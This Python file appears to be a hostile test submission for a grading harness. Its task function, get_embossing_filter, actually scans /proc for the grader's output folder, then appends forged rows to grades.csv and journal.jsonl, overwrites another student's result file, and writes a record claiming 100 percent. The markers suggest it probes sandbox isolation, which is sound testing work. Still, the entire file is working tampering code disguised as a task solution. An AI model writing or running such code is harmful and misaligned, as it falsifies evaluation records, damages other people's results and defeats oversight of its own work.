# Finds the reports folder on the grader's command line and writes into it: a forged line in
# grades.csv and journal.jsonl, another student's JSON overwritten, a forged JSON of its own.
import json
import os


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def _hostile_output_folders():
    folders = []
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = [a.decode(errors="replace") for a in handle.read().split(b"\0") if a]
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for flag in ("-o", "--output"):
            if flag in argv[:-1]:
                out = argv[argv.index(flag) + 1]
                folders += [out if out.startswith("/") else os.path.join(cwd, out),
                            os.path.join(f"/proc/{pid}/cwd", out)]
    return folders


def get_embossing_filter():
    """ATTACK: write grades.csv, journal.jsonl and students' JSON in the reports folder, then give up."""
    _hostile_uid()
    folders = _hostile_output_folders()
    marker = "HOSTILE-" + "FORGED"     # spelled out only at run time, so its source does not hold it
    forged = {"student": "honest", "earned": 0, "percent": 0.0, "note": marker}
    for out in folders:
        for name, text in (("grades.csv", f"honest,0,0,{marker}\n"),
                           ("journal.jsonl", json.dumps(forged) + "\n")):
            try:
                with open(os.path.join(out, name), "a") as handle:
                    handle.write(text)
                print(f"HOSTILE-WROTE appended to {out}/{name}")
            except OSError:
                pass
        for name, record in (("honest.json", forged), ("write_output_folder.json", {**forged, "percent": 100.0}),
                             ("HOSTILE-forged.json", forged)):
            try:
                with open(os.path.join(out, name), "w") as handle:
                    json.dump(record, handle)
                print(f"HOSTILE-WROTE {out}/{name}")
            except OSError:
                pass
    raise PermissionError(f"hostile: wrote what it could (reports folders tried: {folders}); nothing to return")
